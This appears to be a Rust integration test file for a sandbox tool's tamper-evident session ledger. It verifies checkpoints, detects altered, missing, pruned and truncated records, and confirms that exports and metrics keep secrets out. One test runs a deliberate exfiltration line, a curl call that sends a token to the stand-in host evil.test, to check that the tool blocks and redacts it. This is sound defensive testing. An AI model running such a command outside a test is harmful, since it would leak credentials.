//! The ledger of all sessions with the real programs: what is signed, what a checkpoint kept elsewhere proves, what pruning
//! leaves; and that no cell sees the key.

use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use crate::whole::{Operator, Ran};
use serde_json::Value;

/// The plane tells the client first, and the ledger then.
const PATIENCE: Duration = Duration::from_secs(20);
const SECRET: &str = "walrus-tusk-3901-glacier";

fn ledger(operator: &Operator) -> PathBuf {
    operator.room.join("state/bastide/ledger")
}

/// The newest checkpoint, when it covers that many entries, kept where the state is not.
fn keep(operator: &Operator, entries: u64, name: &str) -> String {
    let until = Instant::now() + PATIENCE;
    loop {
        let told = operator.bastide(&["log", "checkpoint"]);
        let size = told.stdout.lines().nth(1).and_then(|size| size.parse::<u64>().ok()).unwrap_or(0);
        if size >= entries {
            return operator.write(&format!("home/{name}"), &told.stdout).to_string_lossy().into_owned();
        }
        assert!(Instant::now() < until, "no checkpoint of {entries} entries: {told:?}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn against(operator: &Operator, held: &str) -> Ran {
    operator.bastide(&["log", "verify", "--checkpoint", held])
}

/// The sessions, newest first.
fn sessions(operator: &Operator) -> Vec<String> {
    let listed = operator.bastide(&["ls", "--json"]);
    let listed: Value = serde_json::from_str(&listed.stdout).expect("JSON");
    listed.as_array().expect("a list").iter().filter_map(|one| one["id"].as_str().map(str::to_owned)).collect()
}

#[test]
fn a_checkpoint_that_was_kept_proves_every_session_and_tells_what_was_changed() {
    for operator in Operator::each() {
        // Nothing inside: neither the key nor anything of the ledger, whatever it is called.
        let place = ledger(&operator);
        let script = format!("cat {}/key {}/log; ls -la {}", place.display(), place.display(), place.display());
        assert_eq!(operator.run(&[], "true").exit, 0);
        keep(&operator, 1, "first");
        let seen = operator.run(&[], &script);
        assert!(seen.exit != 0 && !seen.stdout.contains("PRIVATE") && !seen.stdout.contains("cut"), "{seen:?}");
        for (file, mode) in [("", 0o40700), ("key", 0o100_600), ("log", 0o100_600), ("checkpoint", 0o100_600)] {
            let meta = fs::symlink_metadata(place.join(file)).expect("there");
            assert_eq!((meta.mode(), meta.uid()), (mode, operator.uid), "{file}");
        }
        let held = keep(&operator, 2, "held");
        let key = operator.bastide(&["log", "key"]).stdout;
        let key = operator.write("home/key", &key).to_string_lossy().into_owned();
        let proved = operator.bastide(&["log", "verify", "--checkpoint", &held, "--key", &key]);
        let words = proved.stdout.replace("\n  ", " ");
        assert!(proved.exit == 0 && words.contains("; 2 sessions: ") && words.contains("chain intact"), "{proved:?}");
        // More comes later, and a look at the boundary, which leaves nothing.
        assert_eq!(operator.run(&[], "true").exit, 0);
        operator.bastide(&["doctor"]);
        keep(&operator, 3, "later");
        let proved = against(&operator, &held);
        assert!(proved.exit == 0 && !proved.stdout.contains("note:"), "{proved:?}");
        let ids = sessions(&operator);
        assert_eq!(ids.len(), 3);
        let directory = operator.room.join("state/bastide/sessions").join(&ids[2]);
        let segment = directory.join("plane.segment");
        let whole = fs::read(&segment).expect("there");
        let mut changed = whole.clone();
        changed[100] ^= 1;
        fs::write(&segment, &changed).expect("written");
        let told = against(&operator, &held);
        let words = told.stdout.replace("\n  ", " ");
        assert!(
            told.exit == 1 && words.contains(&format!("FAULT  session `{}`: plane: changed at event p1", ids[2])),
            "{told:?}"
        );
        fs::write(&segment, &whole).expect("written");
        let hidden = operator.room.join("hidden");
        fs::rename(&directory, &hidden).expect("moved");
        let told = against(&operator, &held);
        assert!(told.exit == 1 && told.stdout.contains("is missing: it was not pruned"), "{told:?}");
        fs::rename(&hidden, &directory).expect("moved");
        assert_eq!(against(&operator, &held).exit, 0);
        // Pruned, and all the same proved.
        let pruned = operator.bastide(&["log", "prune", "--keep", "1"]);
        assert!(pruned.exit == 0 && pruned.stdout.lines().count() == 2 && !directory.exists(), "{pruned:?}");
        assert_eq!(sessions(&operator), ids[..1]);
        let proved = against(&operator, &held);
        let words = proved.stdout.replace("\n  ", " ");
        assert!(proved.exit == 0 && words.contains("2 sessions pruned on 2"), "{proved:?}");
        assert!(words.contains(", chain intact"), "{words}");
        // The log cut off at its end, the checkpoint of then put back: only who kept one knows.
        let log = fs::read_to_string(place.join("log")).expect("text");
        let short: String = log.split_inclusive('\n').take(1).collect();
        fs::write(place.join("log"), short).expect("written");
        fs::copy(operator.home().join("first"), place.join("checkpoint")).expect("copied");
        fs::remove_file(place.join("tree")).expect("removed");
        let told = against(&operator, &held);
        let words = told.stdout.replace("\n  ", " ");
        assert!(told.exit == 1 && words.contains("truncated: it covers 2 entries, the ledger holds 1"), "{told:?}");
    }
}

#[test]
fn a_record_is_exported_and_counted_without_its_secrets() {
    for operator in Operator::each() {
        let variable = format!("TOKEN={SECRET}");
        let options = ["--accept-risk", "credential-inside", "--env", &variable];
        let script = "/bin/echo $TOKEN >/dev/null; curl -sS -m 5 http://evil.test/$TOKEN; true";
        assert_eq!(operator.run(&options, &format!("{script} {SECRET}")).exit, 0);
        // Nor does anything else tell it that is kept of the session.
        for verb in ["ls", "show", "log"] {
            let told = operator.bastide(&[verb, "--json"]).stdout;
            assert!(told.contains("curl") && !told.contains(SECRET), "{verb}: {told}");
        }
        let exported = operator.bastide(&["log", "export", "--format", "ocsf"]);
        assert_eq!(exported.exit, 0, "{exported:?}");
        assert!(!exported.stdout.contains(SECRET), "a secret is exported");
        let lines: Vec<Value> = exported.stdout.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
        let of = |class: u64| lines.iter().filter(move |line| line["class_uid"] == class);
        let told = operator.bastide(&["log", "--json"]).stdout.lines().count();
        assert_eq!(lines.len(), told, "an event is missing");
        assert!(of(6002).count() == 2 && lines.iter().all(|line| line["metadata"]["version"] == "1.5.0"));
        let blocked = |line: &&Value| line["disposition"] == "Blocked";
        assert!(of(4001).chain(of(4002)).chain(of(4003)).any(|line| blocked(&line)), "{lines:#?}");
        let file = operator.home().join("bastide.prom");
        let written = operator.bastide(&["metrics", "--textfile", &file.to_string_lossy()]);
        assert_eq!((written.exit, written.stdout.as_str()), (0, ""));
        let page = fs::read_to_string(&file).expect("written");
        assert!(page.lines().any(|line| line == "bastide_sessions{state=\"ended\"} 1"), "{page}");
        assert!(page.contains("bastide_events_total ") && !page.contains(SECRET));
        assert_eq!(operator.bastide(&["metrics"]).stdout.lines().count(), page.lines().count());
    }
}
